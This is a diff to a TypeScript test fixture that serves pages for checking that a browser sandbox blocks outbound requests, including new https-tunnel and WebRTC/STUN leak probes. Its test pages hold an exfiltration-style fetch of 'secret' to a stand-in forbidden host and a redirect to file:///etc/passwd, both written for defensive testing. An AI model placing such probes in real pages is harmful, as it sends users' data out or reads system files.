@@ -1,4 +1,5 @@
 import { randomBytes } from 'node:crypto';
+import { createSocket } from 'node:dgram';
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { Duplex } from 'node:stream';
 
@@ -24,10 +25,12 @@ export interface BrowserSites {
   /** `http://site.test:<port>` */
   readonly siteUrl: string;
   readonly forbiddenUrl: string;
+  /** UDP datagrams (STUN, from WebRTC) that reached 127.0.0.4; none may. */
+  readonly udp: { readonly port: number; datagrams: number };
   close(): Promise<void>;
 }
 
-type Pages = Record<string, (req: IncomingMessage, res: ServerResponse, sites: { siteUrl: string; forbiddenUrl: string; port: number }) => void>;
+type Pages = Record<string, (req: IncomingMessage, res: ServerResponse, sites: { siteUrl: string; forbiddenUrl: string; port: number; udpPort: number }) => void>;
 
 const html = (res: ServerResponse, body: string, headers: Record<string, string> = {}): void => {
   res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers });
@@ -38,6 +41,11 @@ const PAGES: Pages = {
   // The acceptance page: a forbidden image and a forbidden fetch from script.
   '/leaky': (_req, res, s) =>
     html(res, `<title>Leaky page</title></head><body><h1>Quarterly report</h1><p>Revenue went up.</p><img src="${s.forbiddenUrl}/pixel.png"><script>fetch('${s.forbiddenUrl}/collect?d=secret').then(() => document.body.dataset.fetched = 'yes', () => document.body.dataset.fetched = 'failed');</script><a href="/plain">next page</a></body>`),
+  // The same over https: the proxy sees only a tunnel (CONNECT) to the host, and refuses it.
+  '/tunnel': (_req, res, s) => html(res, `<title>Tunnel</title></head><body><p>tunnelled</p><img src="${s.forbiddenUrl.replace('http:', 'https:')}/pixel.png"></body>`),
+ // WebRTC gathers candidates by sending STUN over UDP, which no HTTP proxy carries.
+  '/webrtc': (_req, res, s) =>
+    html(res, `<title>RTC</title></head><body><p>rtc</p><script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.4:${s.udpPort}' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') { const p = document.createElement('p'); p.id = 'rtc-done'; p.textContent = 'gathered'; document.body.append(p); } };</script></body>`),
   '/plain': (_req, res) => html(res, '<title>Plain</title></head><body><main><p>Just a page.</p></main></body>'),
   '/redirect-out': (_req, res, s) => res.writeHead(302, { location: `${s.forbiddenUrl}/landing` }).end(),
   '/redirect-file': (_req, res) => res.writeHead(302, { location: 'file:///etc/passwd' }).end(),
@@ -107,7 +115,12 @@ async function serve(address: string, handle: (req: IncomingMessage, res: Server
 }
 
 export async function startBrowserSites(): Promise<BrowserSites> {
-  let urls = { siteUrl: '', forbiddenUrl: '', port: 0 };
+  const socket = createSocket('udp4');
+  const udp = { port: 0, datagrams: 0 };
+  socket.on('message', () => void udp.datagrams++);
+  await new Promise<void>((done) => socket.bind(0, '127.0.0.4', () => done()));
+  udp.port = socket.address().port;
+  let urls = { siteUrl: '', forbiddenUrl: '', port: 0, udpPort: udp.port };
   const site = await serve('127.0.0.2', (req, res) => {
     const path = new URL(req.url ?? '/', 'http://x').pathname;
     const page = PAGES[path];
@@ -115,13 +128,15 @@ export async function startBrowserSites(): Promise<BrowserSites> {
     else page(req, res, urls);
   });
   const forbidden = await serve('127.0.0.3', (_req, res) => res.writeHead(200, { 'content-type': 'text/plain' }).end('you should not see this'));
-  urls = { siteUrl: `http://site.test:${site.port}`, forbiddenUrl: `http://forbidden.test:${forbidden.port}`, port: site.port };
+  urls = { siteUrl: `http://site.test:${site.port}`, forbiddenUrl: `http://forbidden.test:${forbidden.port}`, port: site.port, udpPort: udp.port };
   return {
     site,
     forbidden,
     siteUrl: urls.siteUrl,
     forbiddenUrl: urls.forbiddenUrl,
+    udp,
     async close() {
+      socket.close();
       await Promise.all([site.close(), forbidden.close()]);
     },
   };
